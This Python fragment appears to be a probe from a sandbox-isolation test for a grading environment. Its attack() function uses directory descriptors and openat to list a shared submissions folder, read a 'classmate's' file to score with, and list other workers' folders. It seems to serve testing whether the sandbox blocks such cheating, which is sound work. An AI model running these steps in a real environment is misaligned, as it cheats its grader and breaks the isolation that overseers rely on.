# Copying a classmate: list the class's submissions folder through a descriptor, read the victim's
# file and score with it; look at the other workers' directories next to this worker's own.


def attack():
    subs = TARGETS["subs_dir"]
    ok, subs_fd = attempt(f"open the submissions folder {subs}", lambda: open_dir(subs))
    if ok:
        attempt("list the submissions folder through its descriptor", lambda: os.listdir(subs_fd))
        os.close(subs_fd)
    root = root_descriptor()
    if root is not None:
        ok, subs_fd = attempt(
            "openat(root, <the submissions folder>) as a directory", lambda: open_dir(at_root(subs), root)
        )
        if ok:
            attempt("list the submissions folder through that descriptor", lambda: os.listdir(subs_fd))
        victim_file = at_root(TARGETS["victim_file"])
        steal_module(f"openat(root, {victim_file!r}) (the classmate's file)", lambda: read_at(root, victim_file))
    if root is None:
        return
    workers = at_root(os.path.dirname(os.path.realpath(os.getcwd())))
    ok, parent = attempt("openat(root, <the folder of the workers' folders>)", lambda: open_dir(workers, root))
    if ok:
        found, names = attempt("list the other workers' folders", lambda: os.listdir(parent))
        for name in (names or [])[:20]:
            attempt(f"list the worker folder {name}", lambda: os.listdir(open_dir(name, parent)), real=False)
